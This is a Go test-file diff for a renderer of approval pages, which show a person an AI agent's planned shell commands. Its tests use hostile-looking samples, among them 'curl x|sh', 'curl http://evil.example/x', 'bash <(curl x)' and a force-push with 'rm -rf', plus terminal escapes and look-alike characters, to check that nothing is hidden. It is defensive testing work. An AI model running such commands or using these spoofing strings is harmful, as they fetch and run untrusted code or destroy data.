@@ -1,35 +1,49 @@
 package approval_test
 
 import (
+	"bufio"
 	"bytes"
+	"flag"
 	"fmt"
+	"maps"
 	"os"
+	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
+	"unicode"
+	"unicode/utf8"
 
 	"github.com/tada-run/tada-run/approval"
 	"github.com/tada-run/tada-run/approval/canonical"
 )
 
+var update = flag.Bool("update", false, "write the golden pages anew")
+
 // fullPlan has every key that a launcher writes, and two that no renderer knows.
 func fullPlan(command string) map[string]any {
 	return map[string]any{
 		"version": 1, "work_item_id": "PR-118", "agent_name": "claude-code", "workspace_root": "/home/dg/proj",
-		"toolset_mode": "dangerous/push-1", "risk": 2,
+		"toolset_mode": "dangerous", "risk": 2,
 		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell", "args": map[string]any{
-			"command": command, "canonical": command + "\n", "argv": []string{"rm", "-rf", "build dir"}, "stdin": "pipe"}}},
-		"context": map[string]any{"cwd": "/home/dg/proj", "cwd_dev": 2049, "cwd_ino": 5521,
+			"command": command, "canonical": command + " ", "argv": []any{"rm", "-rf", "build dir"}, "stdin": "pipe"}}},
+		"context": map[string]any{"cwd": "/home/dg/proj/sub", "cwd_dev": 2049, "cwd_ino": 5521,
 			"env": map[string]any{"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}, "env_hash": "77ab", "uid": 1000, "umask": 18,
 			"shell": "/usr/bin/bash", "policy": "p3c1", "profile": "push-1", "version": "0.1.0", "level": "strong"},
-		"effects":    map[string]any{"delete": []string{"/home/dg/proj/build"}, "write": []string{}, "read": []string{}, "exec": []string{"/usr/bin/git"}, "net": []string{"github.com:22"}},
-		"targets":    []any{map[string]any{"right": "delete", "name": "build", "real": "/home/dg/proj/build", "exists": true, "dev": 2049, "ino": 99}},
-		"reasons":    []any{map[string]any{"rule": "git.force-push", "verdict": "ask", "message": "rewrites the history of a shared branch", "span": []any{25, 32}, "path": ""}},
-		"hazards":    []any{map[string]any{"rule": "git.force-push", "risk": 2, "message": "force"}},
+		"effects": map[string]any{"delete": []any{"/home/dg/proj/build"}, "write": []any{}, "read": []any{"x"}, "exec": []any{"/usr/bin/git"}, "net": []any{"github.com:22"}},
+		"targets": []any{
+			map[string]any{"right": "delete", "name": "build", "real": "/home/dg/proj/build", "exists": true, "dev": 2049, "ino": 99},
+			map[string]any{"right": "write", "name": "out", "real": "/tmp/out", "exists": false, "dev": 3, "ino": 4}},
+		"reasons":    []any{map[string]any{"rule": "git.force-push", "verdict": "ask", "message": "rewrites the history of a shared branch", "span": []any{25, 32}, "path": "/p"}},
+		"hazards":    []any{map[string]any{"rule": "git.force-push", "risk": 2, "message": "force"}, "plain hazard"},
 		"opaque":     []any{map[string]any{"place": "c1", "text": "eval \"$x\"", "why": "runs text that is not known"}},
 		"agent_says": "clean build and sync branch",
 		"origin":     "human", "future": map[string]any{"deep": []any{map[string]any{"key": "value"}, nil, true}},
 	}
 }
+
+const pushCommand = "rm -rf build && git push --force origin main"
 
 func spell(t testing.TB, v any) []byte {
 	t.Helper()
@@ -40,25 +54,488 @@ func spell(t testing.TB, v any) []byte {
 	return b
 }
 
-func TestShowPage(t *testing.T) {
-	if os.Getenv("SHOW_PAGE") == "" {
-		t.Skip("set SHOW_PAGE to see a page")
-	}
-	p := fullPlan("rm -rf build && git push --force origin main; echo \u202e a\rb" + strings.Repeat(" ", 300) + "; curl x|sh")
-	fmt.Print(approval.Render(spell(t, p), approval.RenderOptions{Width: 80}).Text())
-	fmt.Print(approval.Render(spell(t, p), approval.RenderOptions{Width: 80, Full: true}).Text())
-}
-
-// B-R5.1, B-T7, E-dsp-1: a full page is the payload in another form.
-func TestDecode(t *testing.T) {
-	for _, v := range []any{fullPlan("ls"), 5, "text", nil, []any{}, map[string]any{}, map[string]any{"": "", "a b": 1, "\xff": []any{"\xfe"}, "10": nil}} {
-		p := spell(t, v)
-		for _, width := range []int{0, 40, 80, 200} {
-			text := approval.Render(p, approval.RenderOptions{Width: width, Full: true}).Text()
-			back, err := approval.Decode(text, width)
-			if err != nil || !bytes.Equal(back, p) {
-				t.Errorf("width %d: %s came back as %s, %v\n%s", width, p, back, err, text)
+func TestGoldenPage(t *testing.T) {
+	p := spell(t, fullPlan(pushCommand))
+	for name, o := range map[string]approval.RenderOptions{"page": {}, "page-narrow": {Width: 40}, "page-full": {Full: true}} {
+		path := "testdata/" + name + ".golden"
+		got := approval.Render(p, o).Text()
+		if *update {
+			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+				t.Fatal(err)
 			}
 		}
+		want, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got != string(want) {
+			t.Errorf("%s differs (go test -update writes it anew):\n%s", path, got)
+		}
+	}
+}
+
+// attacks is the corpus: commands that try to act on the terminal, to hide something, or to look
+// like a part of the page.
+func attacks(t testing.TB) map[string]string {
+	f, err := os.Open("testdata/attacks.jsonl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	out := map[string]string{}
+	for s := bufio.NewScanner(f); s.Scan(); {
+		v, err := canonical.Parse(s.Bytes())
+		if err != nil {
+			t.Fatal(err)
+		}
+		m := v.(map[string]any)
+		out[m["name"].(string)] = m["command"].(string)
+	}
+	if len(out) < 100 {
+		t.Fatalf("only %d attacks", len(out))
+	}
+	return out
+}
+
+// everywhere puts a text wherever a text can stand in a plan.
+func everywhere(s string) map[string]any {
+	p := fullPlan(s)
+	p["agent_says"], p["agent_name"], p["work_item_id"], p["unknown"] = s, s, s, map[string]any{s: []any{s}}
+	call := p["tool_calls"].([]any)[0].(map[string]any)["args"].(map[string]any)
+	call["argv"] = []any{s, s}
+	p["context"].(map[string]any)["env"] = map[string]any{s: s}
+	p["targets"] = []any{map[string]any{"right": "write", "name": s, "real": s}}
+	p["reasons"] = []any{map[string]any{"rule": s, "verdict": "ask", "message": s, "span": []any{0, 1}}}
+	p["opaque"] = []any{map[string]any{"text": s, "place": s, "why": s}}
+	return p
+}
+
+const ownMarks = "⟦⟧⟪⟫␠⏎⇥·→━│┊×✗✎▸⇡"
+
+// checkInert fails for anything that could act on a terminal, show as nothing, or move its
+// neighbours. It does not ask the renderer's own tables.
+func checkInert(t testing.TB, p approval.Page, width int) {
+	t.Helper()
+	for _, line := range p.Lines {
+		cells := 0
+		for _, r := range line {
+			cells++
+			switch {
+			case r >= 0x20 && r < 0x7f, strings.ContainsRune(ownMarks, r):
+			case r < 0xa0, r == utf8.RuneError,
+				unicode.In(r, unicode.C, unicode.M, unicode.Z, unicode.Lm), !unicode.IsLetter(r),
+				r == 0x115f, r == 0x1160, r == 0x3164, r == 0xffa0, r == 0x17b4, r == 0x17b5, r == 0x2800,
+				unicode.In(r, unicode.Hebrew, unicode.Arabic, unicode.Syriac, unicode.Thaana, unicode.Nko, unicode.Adlam):
+				t.Errorf("U+%04X on the page, in %q", r, line)
+			case unicode.In(r, unicode.Han, unicode.Hiragana, unicode.Katakana, unicode.Hangul) || r >= 0xff01 && r <= 0xff60:
+				cells++
+			}
+		}
+		if !utf8.ValidString(line) || cells > width {
+			t.Errorf("%d cells in %q", cells, line)
+		}
+	}
+}
+
+var code = regexp.MustCompile(`(?s)^(?:([^\x00-\x7f⟦⟧⟪⟫␠⏎⇥])?⟦U\+([0-9A-F]{4,6})⟧|⟦x([0-9A-F]{2})⟧|(.))(?:⟦×([0-9]+)⟧)?`)
+
+// unshow is a second, naive reader of shown text: it shares nothing with Restore.
+func unshow(t testing.TB, s string) string {
+	t.Helper()
+	var out []byte
+	for s != "" {
+		m := code.FindStringSubmatch(s)
+		if m == nil {
+			t.Fatalf("cannot read %q", s)
+		}
+		s = s[len(m[0]):]
+		one := map[string]string{"␠": " ", "⏎": "\n", "⇥": "\t", "⟪": "", "⟫": ""}
+		var c []byte
+		switch {
+		case m[2] != "":
+			n, _ := strconv.ParseUint(m[2], 16, 32)
+			c = utf8.AppendRune(nil, rune(n))
+			if m[1] != "" && m[1] != string(c) {
+				t.Fatalf("%q has the code point of %q", m[1], c)
+			}
+		case m[3] != "":
+			n, _ := strconv.ParseUint(m[3], 16, 8)
+			c = []byte{byte(n)}
+		default:
+			plain, ok := one[m[4]]
+			if !ok {
+				plain = m[4]
+			}
+			c = []byte(plain)
+		}
+		n := 1
+		if m[5] != "" {
+			n, _ = strconv.Atoi(m[5])
+		}
+		out = append(out, bytes.Repeat(c, n)...)
+	}
+	return string(out)
+}
+
+var gutter = regexp.MustCompile(`^(?:run     |        ) +[0-9]*[│┊] `)
+
+// commandLines returns the lines of the command on a page, without what stands before the text.
+func commandLines(p approval.Page) []string {
+	var out []string
+	for i := slices.IndexFunc(p.Lines, func(l string) bool { return strings.HasPrefix(l, "run ") }); i >= 0 && i < len(p.Lines); i++ {
+		g := gutter.FindString(p.Lines[i])
+		if g == "" {
+			break
+		}
+		out = append(out, strings.TrimPrefix(p.Lines[i], g))
+	}
+	return out
+}
+
+// shownCommand reads the command back from the lines that a person sees.
+func shownCommand(t testing.TB, p approval.Page) string {
+	t.Helper()
+	return unshow(t, strings.Join(commandLines(p), ""))
+}
+
+// B-R5.1, B-T7, E-dsp-1, E-dsp-2, E-dsp-4: every attack, wherever it stands, is inert on the page;
+// the person sees every byte of it, and the full page is the payload in another form.
+func TestAttacks(t *testing.T) {
+	for name, command := range attacks(t) {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			checkPage(t, everywhere(command), command)
+		})
+	}
+}
+
+func checkPage(t testing.TB, plan map[string]any, command string) {
+	t.Helper()
+	payload := spell(t, plan)
+	for _, width := range []int{40, 80, 133} {
+		short := approval.Render(payload, approval.RenderOptions{Width: width})
+		full := approval.Render(payload, approval.RenderOptions{Width: width, Full: true})
+		checkInert(t, short, width)
+		checkInert(t, full, width)
+		if full.Truncated {
+			t.Error("a full page says that it is cut")
+		}
+		if got := shownCommand(t, full); got != command {
+			t.Errorf("width %d: the full page shows the command as %q, it is %q", width, got, command)
+		}
+		if got := shownCommand(t, short); got != command && !short.Truncated {
+			t.Errorf("width %d: the page shows the command as %q, it is %q", width, got, command)
+		}
+		back, err := approval.Decode(full.Text(), width)
+		if err != nil || !bytes.Equal(back, payload) {
+			t.Errorf("width %d: decoded to %q, %v", width, back, err)
+		}
+	}
+}
+
+// Render takes any bytes, and a full page gives them back.
+func TestRenderAnything(t *testing.T) {
+	for _, p := range []string{"", "{", "\x1b[2J\xff", "5", `"text"`, "null", "[]", "{}", `{"":"","10":null,"a b":1,"\udcff":["\udcfe"]}`, `{"a": 1}`,
+		`{"agent_name":5,"agent_says":[],"context":"x","effects":[1],"hazards":{},"opaque":"","reasons":[1,[],{}],"risk":"2","targets":[[]],"tool_calls":[5,{"args":"x"},{"args":{"argv":[1],"command":5}}]}`,
+		`{"context":{"cwd":5,"env":[],"env_hash":{}},"effects":{"delete":"x","write":[{}]},"tool_calls":{}}`} {
+		for _, width := range []int{-5, 0, 1, 40, 1000} {
+			full := approval.Render([]byte(p), approval.RenderOptions{Width: width, Full: true})
+			back, err := approval.Decode(full.Text(), width)
+			if err != nil || string(back) != p {
+				t.Errorf("%q came back as %q, %v\n%s", p, back, err, full.Text())
+			}
+			if full.Friction.Level != 3 {
+				t.Errorf("%q has friction %+v", p, full.Friction)
+			}
+		}
+	}
+}
+
+// A page that was changed anywhere does not decode to something else.
+func TestDecodeRefuses(t *testing.T) {
+	text := approval.Render(payload(t, nil), approval.RenderOptions{Full: true}).Text()
+	for i := 0; i < len(text); i += 3 { // each try renders a page
+		for _, c := range []byte{text[i] ^ 1, '\n'} {
+			other := text[:i] + string([]byte{c}) + text[i+1:]
+			if other == text {
+				continue
+			}
+			if back, err := approval.Decode(other, 0); err == nil {
+				t.Fatalf("byte %d changed to %q decodes to %s", i, c, back)
+			}
+		}
+	}
+	for _, other := range []string{"", "\n", text[:len(text)-1], text + "\n", text + text, " every value by its name ", " every value by its name \n\n\n\n"} {
+		if back, err := approval.Decode(other, 0); err == nil {
+			t.Errorf("%q decodes to %s", other, back)
+		}
+	}
+}
+
+// mutants calls fn with copies of a tree, each with one leaf changed, or one removed or added.
+func mutants(x any, fn func(way string, x any)) {
+	switch x := x.(type) {
+	case map[string]any:
+		for k, v := range x {
+			mutants(v, func(way string, v any) {
+				c := maps.Clone(x)
+				c[k] = v
+				fn("."+k+way, c)
+			})
+			c := maps.Clone(x)
+			delete(c, k)
+			fn("."+k+" removed", c)
+		}
+		c := maps.Clone(x)
+		c["added"] = "x"
+		fn(".added", c)
+	case []any:
+		for i, v := range x {
+			mutants(v, func(way string, v any) {
+				c := slices.Clone(x)
+				c[i] = v
+				fn(fmt.Sprintf("[%d]%s", i, way), c)
+			})
+		}
+		fn("[+]", append(slices.Clone(x), "x"))
+	case string:
+		fn(" +", x+"z")
+		fn(" as null", nil)
+	case int:
+		fn(" +1", x+1)
+		fn(" as text", strconv.Itoa(x))
+	case bool:
+		fn(" not", !x)
+	case nil:
+		fn(" as text", "null")
+	}
+}
+
+// B-R1.2, B-R1.2a, B-T7: whatever is changed in a plan changes its hash, and shows on the page that
+// a person sees first, in its lines and not only in the hash.
+func TestNothingHidden(t *testing.T) {
+	body := func(p approval.Page) string {
+		return strings.Join(slices.DeleteFunc(slices.Clone(p.Lines), func(l string) bool { return strings.HasPrefix(l, "plan ") }), "\n")
+	}
+	plan := fullPlan(pushCommand)
+	before := approval.Render(spell(t, plan), approval.RenderOptions{})
+	n := 0
+	mutants(plan, func(way string, x any) {
+		n++
+		after := approval.Render(spell(t, x), approval.RenderOptions{})
+		if body(after) == body(before) {
+			t.Errorf("plan%s does not show", way)
+		}
+		if after.PlanHash == before.PlanHash {
+			t.Errorf("plan%s does not change the hash", way)
+		}
+	})
+	if n < 150 {
+		t.Errorf("only %d mutants", n)
+	}
+	// The order of calls counts.
+	two := func(a, b string) []byte { return payload(t, nil, a, b) }
+	if approval.PlanHash(two("a", "b")) == approval.PlanHash(two("b", "a")) {
+		t.Error("the order of calls does not change the hash")
+	}
+}
+
+var cutMark = regexp.MustCompile(`⟦\[truncated, (\d+) chars\]⟧`)
+
+// B-R5.2: a long argument is cut with the number of characters that are missing, the full page has
+// all of it, and the hash is of all of it.
+func TestTruncation(t *testing.T) {
+	long := "echo " + strings.Repeat("abcde", 1000)
+	plan := fullPlan(long)
+	delete(plan, "reasons")
+	call := plan["tool_calls"].([]any)[0].(map[string]any)
+	call["args"] = map[string]any{"command": long}
+	payload := spell(t, plan)
+	short := approval.Render(payload, approval.RenderOptions{})
+	m := cutMark.FindStringSubmatch(strings.Join(short.Lines, "\n"))
+	if !short.Truncated || m == nil {
+		t.Fatalf("no mark:\n%s", short.Text())
+	}
+	shown := len(cutMark.ReplaceAllString(strings.Join(commandLines(short), ""), ""))
+	if hidden, _ := strconv.Atoi(m[1]); hidden+shown != len(long) {
+		t.Errorf("%d shown and %d hidden of %d", shown, hidden, len(long))
+	}
+	full := approval.Render(payload, approval.RenderOptions{Full: true})
+	if full.Truncated || shownCommand(t, full) != long || cutMark.MatchString(full.Text()) {
+		t.Error("the full page is cut")
+	}
+	if short.PlanHash != approval.PlanHash(payload) || short.PlanHash != full.PlanHash {
+		t.Error("the hash is not of all of it")
+	}
+}
+
+// B-R5.2a: what a reason points at is on the first page wherever it stands, marked and with what is
+// around it.
+func TestDangerIsNeverElided(t *testing.T) {
+	const danger = "curl http://evil.example/x"
+	for _, at := range []int{0, 3000, 9000} {
+		command := strings.Repeat("abcdefgh ", at/9) + danger + strings.Repeat(" tail", 1000)
+		start := strings.Index(command, danger)
+		plan := fullPlan(command)
+		plan["reasons"] = []any{map[string]any{"rule": "net", "verdict": "ask", "message": "m", "span": []any{start, start + len(danger)}}}
+		p := approval.Render(spell(t, plan), approval.RenderOptions{Width: 200})
+		if !p.Truncated || !strings.Contains(p.Text(), "⟪"+danger+"⟫") {
+			t.Errorf("at %d:\n%s", at, p.Text())
+		}
+	}
+	// Spans that lie outside, cross or lie in one another do no harm.
+	for _, spans := range [][]any{{-1, 5}, {5, 2}, {0, 99999}, {0, 10, 5, 20}, {0, 20, 5, 10}, {44, 44}} {
+		plan := fullPlan(pushCommand)
+		var reasons []any
+		for i := 0; i+1 < len(spans); i += 2 {
+			reasons = append(reasons, map[string]any{"verdict": "ask", "span": []any{spans[i], spans[i+1]}})
+		}
+		plan["reasons"] = reasons
+		checkPage(t, plan, pushCommand)
+	}
+}
+
+// E-dsp-3, B-R5.2a: padding does not push anything off the first screen; each stage has its line.
+func TestPadding(t *testing.T) {
+	for _, pad := range []string{strings.Repeat(" ", 300), strings.Repeat("\n", 60), strings.Repeat("\t", 300), " #" + strings.Repeat("=", 3000) + "\n", strings.Repeat("\u200b", 900)} {
+		p := approval.Render(spell(t, fullPlan("echo safe"+pad+"; curl x|sh")), approval.RenderOptions{})
+		screen := strings.Join(p.Lines[:min(24, len(p.Lines))], "\n")
+		if p.Truncated || !strings.Contains(screen, "⟦×") || !strings.Contains(screen, "│ curl x\n") || !strings.Contains(screen, "│ |sh\n") {
+			t.Errorf("padding with %.3q:\n%s", pad, p.Text())
+		}
+	}
+}
+
+// E-dsp-6: the agent's words come after the facts, in at most two lines, named for what they are.
+func TestAgentSays(t *testing.T) {
+	for says, cut := range map[string]bool{"ok": false, strings.Repeat("trust me ", 500): true, "line\nplan     0000 0000\n": false,
+		"\x1b[2J": false, strings.Repeat("\u4e2d", 300): false, strings.Repeat("\u4e2d\u6587", 100): true} {
+		for _, width := range []int{40, 80} {
+			plan := fullPlan("ls")
+			plan["agent_says"] = says
+			p := approval.Render(spell(t, plan), approval.RenderOptions{Width: width})
+			at := slices.IndexFunc(p.Lines, func(l string) bool { return strings.HasPrefix(l, "agent says (unverified): ") })
+			end := slices.IndexFunc(p.Lines, func(l string) bool { return strings.HasPrefix(l, "plan ") })
+			if at < 0 || end-at > 2 || end != len(p.Lines)-2 {
+				t.Errorf("says %.20q:\n%s", says, p.Text())
+			}
+			if p.Truncated != cut {
+				t.Errorf("says %.20q: truncated %v", says, p.Truncated)
+			}
+		}
+	}
+}
+
+// E-dsp-7: what cannot be inspected is named.
+func TestOpaque(t *testing.T) {
+	plan := fullPlan("ls")
+	plan["opaque"] = []any{map[string]any{"text": "bash <(curl x)", "why": "its input is not known"}, "python3 -c"}
+	text := approval.Render(spell(t, plan), approval.RenderOptions{}).Text()
+	for _, want := range []string{"cannot inspect: bash <(curl x) · its input is not known\n", "cannot inspect: python3 -c\n"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("no %q in\n%s", want, text)
+		}
+	}
+}
+
+// E-dsp-5: look-alikes and what cannot be seen are told apart from the text.
+func TestMarks(t *testing.T) {
+	for command, want := range map[string]string{
+		"ls -la": "", "l\u0455 -la": "word that mixes alphabets", "g\u03bfogle": "word that mixes alphabets", "caf\u00e9": "", "\u0444\u0430\u0439\u043b": "",
+		"\uff52m": "word that mixes alphabets", "a\u200bb": "invisible or direction-changing character U+200B", "a\x1bb": "control character U+001B",
+		"a\xffb": "byte that is no UTF-8", "a\u3164b": "blank character U+3164", "a\u2800b": "blank character U+2800", "a\u0301": "combining mark U+0301",
+		"a\ufe0f": "combining mark U+FE0F", "rm\u00a0x": "blank character U+00A0", "a\x85b": "byte that is no UTF-8", "\u05d0": "letter of another direction or alphabet U+05D0",
+	} {
+		marks := strings.Join(approval.Render(payload(t, func(p map[string]any) { p["x"] = command }), approval.RenderOptions{}).Marks, "; ")
+		if want == "" && marks != "" || !strings.Contains(marks, want) {
+			t.Errorf("%q has marks %q, want %q", command, marks, want)
+		}
+	}
+}
+
+// E-dsp-8: what is too large to be judged on the spot is not offered there.
+func TestInline(t *testing.T) {
+	for n, want := range map[int]bool{100: true, 60 << 10: true, 64 << 10: false, 100 << 10: false} {
+		plan := payload(t, func(p map[string]any) { p["x"] = strings.Repeat("ab", n/2) })
+		if got := approval.Render(plan, approval.RenderOptions{}).Inline; got != want {
+			t.Errorf("%d bytes: inline %v", n, got)
+		}
+	}
+	many := make([]any, 400)
+	for i := range many {
+		many[i] = map[string]any{"rule": "r"}
+	}
+	if approval.Render(payload(t, func(p map[string]any) { p["reasons"] = many }), approval.RenderOptions{}).Inline {
+		t.Error("400 reasons are inline")
+	}
+}
+
+// B-R5.3: twelve digits of the hash are on the page in three groups.
+func TestPrefix(t *testing.T) {
+	p := approval.Render(payload(t, nil), approval.RenderOptions{})
+	h := p.PlanHash
+	if want := "plan     " + h[:4] + " " + h[4:8] + " " + h[8:12] + "\n"; !strings.Contains(p.Text(), want) {
+		t.Errorf("no %q in\n%s", want, p.Text())
+	}
+	if approval.Prefix("short") != "short" {
+		t.Error("a short hash has no prefix")
+	}
+}
+
+func FuzzInert(f *testing.F) {
+	for _, command := range attacks(f) {
+		f.Add(command, command+" ")
+	}
+	f.Fuzz(func(t *testing.T, a, b string) {
+		x, y := approval.Inert(a), approval.Inert(b)
+		if (x == y) != (a == b) {
+			t.Fatalf("%q and %q both show as %q", a, b, x)
+		}
+		if back, err := approval.Restore(x); err != nil || back != a {
+			t.Fatalf("%q shows as %q and comes back as %q, %v", a, x, back, err)
+		}
+		checkInert(t, approval.Page{Lines: []string{x}}, 1<<30)
+		if back, err := approval.Restore(a); err == nil && approval.Inert(back) != a {
+			t.Fatalf("%q restores to %q, which shows otherwise", a, back)
+		}
+	})
+}
+
+func FuzzRender(f *testing.F) {
+	for _, command := range attacks(f) {
+		f.Add(command, "key", 3, 9)
+	}
+	f.Fuzz(func(t *testing.T, command, key string, start, end int) {
+		plan := everywhere(command)
+		plan[key] = command
+		if _, ok := plan["tool_calls"].([]any); !ok {
+			return
+		}
+		if key != "reasons" {
+			plan["reasons"] = []any{map[string]any{"verdict": "ask", "span": []any{start, end}}}
+		}
+		checkPage(t, plan, command)
+		raw := approval.Render([]byte(command), approval.RenderOptions{Full: true})
+		if back, err := approval.Decode(raw.Text(), 0); err != nil || string(back) != command {
+			t.Fatalf("bytes %q came back as %q, %v", command, back, err)
+		}
+	})
+}
+
+func BenchmarkRender100k(b *testing.B) {
+	for _, c := range []struct {
+		name string
+		text string
+		full bool
+	}{{"ascii", "echo hello world; ", false}, {"ascii-full", "echo hello world; ", true}, {"attack", "\u202e\x1b[2K\xff \u0455", false}} {
+		b.Run(c.name, func(b *testing.B) {
+			p := payload(b, func(p map[string]any) {
+				p["tool_calls"] = []any{map[string]any{"tool_call_id": "c1", "args": map[string]any{"command": strings.Repeat(c.text, 100<<10/len(c.text))}}}
+			})
+			b.SetBytes(int64(len(p)))
+			for b.Loop() {
+				approval.Render(p, approval.RenderOptions{Full: c.full})
+			}
+		})
 	}
 }
